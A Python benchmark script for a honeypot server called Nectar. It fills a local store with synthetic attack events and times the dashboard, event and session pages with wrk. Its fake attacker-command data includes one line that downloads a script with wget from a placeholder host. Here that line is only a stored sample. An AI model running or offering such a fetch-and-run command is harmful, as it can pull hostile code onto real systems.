#!/usr/bin/env python3
"""UI latency benchmark: fill a fresh store with N events through the API, log in,
and measure the dashboard, events, search and sessions pages with wrk on loopback.
Every event names its own session, so N events are about N sessions.

    cargo build --release && python3 scripts/bench_ui.py target/release/nectar [EVENTS]

Needs wrk (apt-get install wrk). Every request goes to 127.0.0.1; the server and its
data directory are removed at the end. Prints a Markdown table of wrk's latency
percentiles (p50, p90, p99) per page.
"""
import json
import os
import random
import re
import subprocess
import sys
import tempfile
import time
import urllib.error
import urllib.parse
import urllib.request

BIN = sys.argv[1] if len(sys.argv) > 1 else "target/release/nectar"
EVENTS = int(sys.argv[2]) if len(sys.argv) > 2 else 1_000_000
DURATION = os.environ.get("WRK_DURATION", "10s")
# The hashes of the uploads the fill made (one is searched for).
UPLOADS = []


class NoRedirect(urllib.request.HTTPRedirectHandler):
    def redirect_request(self, *args, **kwargs):
        return None


def main():
    work = tempfile.mkdtemp(prefix="nectar-bench-ui-")
    data = os.path.join(work, "data")
    config = os.path.join(work, "nectar.toml")
    with open(config, "w") as f:
        f.write('[server]\nlisten = "127.0.0.1:0"\n')
        # The honeypots listen on loopback ports of the system's choosing, so the
        # bench never takes (or fails on) their public default ports.
        for section in honeypot_sections():
            f.write(f'[honeypot.{section}]\nlisten = "127.0.0.1:0"\n')
    server = subprocess.Popen([BIN, "--config", config, "--data-dir", data, "serve"],
                              stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
    try:
        url = None
        deadline = time.time() + 60
        while url is None and time.time() < deadline:
            line = server.stdout.readline()
            m = re.match(r"Nectar is listening on (http://[^/]+)/", line)
            if m:
                url = m.group(1)
        assert url, "server did not start"
        token = subprocess.check_output([BIN, "--data-dir", data, "token", "create", "--name", "bench"], text=True).strip()
        fill(url, token)
        cookie = login(url, open(os.path.join(data, "initial-admin-password")).read().strip())
        page1000 = walk(url, cookie, 1000)
        sessions100 = walk(url, cookie, 100, "/sessions")
        pages = [
            ("dashboard, last day", "/"),
            ("dashboard, last week", "/?range=7d"),
            ("events, first page", "/events"),
            ("events, page 1,000 (keyset)", page1000),
            ("events, kind=ssh.login.failed", "/events?kind=ssh.login.failed"),
            ("events, kind=ssh.*", "/events?kind=ssh.%2A"),
            ("events, src_ip", "/events?src_ip=198.51.100.77"),
            ("events, severity=high", "/events?severity=high"),
            ("events, src_ip=198.51.100.0/24", "/events?src_ip=198.51.100.0/24"),
            ("search, a rare word (q=word4999)", "/events?q=word4999"),
            ("search, a common prefix (q=wget*)", "/events?q=wget%2A"),
            ("search, a phrase (q=\"x.sh\")", "/events?q=%22x.sh%22"),
            ("search, one SHA-256", "/events?q=" + UPLOADS[len(UPLOADS) // 2]),
            ("search, a user agent and severity", "/events?q=zgrab&severity=info,low"),
            ("events, password pivot", "/events?password=word17"),
            ("sessions, default (interactive first)", "/sessions"),
            ("sessions, page 100 (keyset)", sessions100),
            ("sessions, newest first", "/sessions?order=newest"),
            ("sessions, with commands", "/sessions?has_commands=1"),
            ("sessions, src_ip=198.51.100.0/24", "/sessions?src_ip=198.51.100.0/24&range=all"),
            ("sessions, logged in, ssh", "/sessions?logged_in=yes&protocol=ssh"),
            ("sessions, text in commands (wget)", "/sessions?q=wget"),
        ]
        print(f"\n{EVENTS} events; wrk -t1 -c4 -d{DURATION} --latency per page\n")
        print("| page | req/s | p50 | p90 | p99 |")
        print("| --- | --- | --- | --- | --- |")
        for name, path in pages:
            out = subprocess.run(["wrk", "-t1", "-c4", f"-d{DURATION}", "--latency", "-H", f"Cookie: {cookie}", url + path],
                                 capture_output=True, text=True, timeout=120).stdout
            pct = dict(re.findall(r"^\s+(50|90|99)%\s+(\S+)", out, re.M))
            rps = re.search(r"Requests/sec:\s+(\S+)", out)
            non2xx = re.search(r"Non-2xx or 3xx responses: (\d+)", out)
            print(f"| {name} | {rps.group(1) if rps else '?'} | {pct.get('50')} | {pct.get('90')} | {pct.get('99')} |"
                  + (f" {non2xx.group(1)} errors" if non2xx else ""))
    finally:
        server.terminate()
        server.wait(timeout=60)
        subprocess.run(["rm", "-rf", work])


def honeypot_sections():
    """The honeypots this build has (those with a `listen` key)."""
    out = subprocess.run([BIN, "config"], capture_output=True, text=True).stdout
    return [name for name in ("ssh", "telnet", "http") if f"[honeypot.{name}]" in out]


def fill(url, token):
    rng = random.Random(7)
    kinds = [("ssh.login.failed", "low", 0.55), ("ssh.login.success", "medium", 0.02), ("ssh.command", "high", 0.12),
             ("ssh.upload", "medium", 0.01),
             ("http.request", "info", 0.27), ("net.alarm", "critical", 0.01), ("session.connect", "info", 0.02)]
    agents = ["Mozilla/5.0 zgrab/0.x", "curl/7.88.1", "python-requests/2.31", "Go-http-client/1.1",
              "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36"]
    users = ["root", "admin", "pi", "ubuntu", "test", "oracle", "postgres", "user", "guest", "git"]
    commands = ["uname -a", "cat /proc/cpuinfo", "wget http://198.51.100.9/x.sh", "busybox", "nproc", "free -m"]
    now = time.time()
    start = time.time()
    batch_size = 1000
    for b in range(EVENTS // batch_size):
        events = []
        for i in range(batch_size):
            r = rng.random()
            acc = 0.0
            for kind, sev, p in kinds:
                acc += p
                if r <= acc:
                    break
            t = now - rng.random() * 7 * 86400 * (0.25 if rng.random() < 0.8 else 1.0)
            e = {"time": time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(t)) + f".{int(t % 1 * 1e6):06d}Z",
                 "kind": kind, "severity": sev, "src_ip": f"198.51.{rng.randint(100, 119)}.{rng.randint(1, 254)}",
                 "src_port": rng.randint(1024, 65535), "summary": f"{kind} number {b * batch_size + i}",
                 "data": {"session": f"{rng.getrandbits(48):012x}"}}
            if kind.startswith("ssh.login"):
                e["data"]["username"] = rng.choice(users)
                e["data"]["password"] = f"word{int(5000 * rng.random() ** 3)}"
            elif kind == "ssh.command":
                e["data"]["input"] = rng.choice(commands)
            elif kind == "ssh.upload":
                e["data"]["sha256"] = sha(b * batch_size + i)
                UPLOADS.append(e["data"]["sha256"])
                e["data"]["filename"] = f"/tmp/.x{rng.randint(0, 999)}"
            elif kind == "http.request":
                e["data"]["path"] = f"/cgi-bin/{rng.choice(['luci', 'status', 'admin.cgi', 'test.sh'])}"
                e["data"]["user_agent"] = rng.choice(agents)
            events.append(e)
        req = urllib.request.Request(url + "/api/v1/events", data=json.dumps(events).encode(),
                                     headers={"Authorization": "Bearer " + token, "Content-Type": "application/json"})
        urllib.request.urlopen(req, timeout=120).read()
    print(f"stored {EVENTS} events in {time.time() - start:.1f} s through the API", file=sys.stderr)


def login(url, password):
    opener = urllib.request.build_opener(NoRedirect)
    form = opener.open(url + "/login")
    html = form.read().decode()
    login_cookie = form.headers.get("Set-Cookie").split(";")[0]
    csrf = re.search(r'name="csrf" value="([^"]+)"', html).group(1)
    body = urllib.parse.urlencode({"username": "admin", "password": password, "csrf": csrf}).encode()
    try:
        opener.open(urllib.request.Request(url + "/login", data=body, headers={"Cookie": login_cookie}))
    except urllib.error.HTTPError as e:
        for c in e.headers.get_all("Set-Cookie"):
            if c.startswith("nectar_session="):
                return c.split(";")[0]
    raise SystemExit("login failed")


def walk(url, cookie, pages, start="/events"):
    path = start
    for _ in range(pages - 1):
        html = urllib.request.urlopen(urllib.request.Request(url + path, headers={"Cookie": cookie})).read().decode()
        m = re.search(r'href="(' + re.escape(start) + r'\?[^"]*cursor=[^"]+)"', html)
        path = m.group(1).replace("&#38;", "&").replace("&amp;", "&")
    return path


def sha(i):
    """The SHA-256 the fill gives upload number `i` (a stand-in: any 64 hex digits)."""
    return f"{i:064x}"


if __name__ == "__main__":
    main()
